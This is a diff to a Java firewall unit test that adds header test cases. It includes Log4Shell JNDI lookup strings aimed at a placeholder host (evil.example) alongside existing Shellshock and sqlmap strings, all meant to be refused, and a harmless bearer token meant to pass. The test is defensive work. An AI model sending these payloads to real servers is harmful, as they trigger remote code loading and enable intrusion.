@@ -113,7 +113,9 @@ class FirewallTest {
                 "Connection|close, Authorization",
                 "Expect|200-ok",
                 "User-Agent|sqlmap/1.7",
-                "User-Agent|() { :; }; x"
+                "User-Agent|() { :; }; x",
+                "Authorization|Bearer ${jndi:ldap://evil.example/a}",
+                "authorization|bearer a;${jndi:rmi://evil.example}"
             })
     void headerFieldsThatNoBrowserSendsAreRefused(String name, String value) {
         assertThat(report(withField(name, value)).isPassed()).isFalse();
@@ -133,7 +135,8 @@ class FirewallTest {
                 "Accept|text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                 "If-None-Match|W/\"5-abc\"",
                 "X-Forwarded-For|10.0.0.1, 192.168.1.1",
-                "Authorization|Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ=="
+                "Authorization|Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==",
+                "authorization|Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl-_"
             })
     void headerFieldsOfBrowsersPass(String name, String value) {
         assertThat(report(withField(name, value)).findings()).isEmpty();
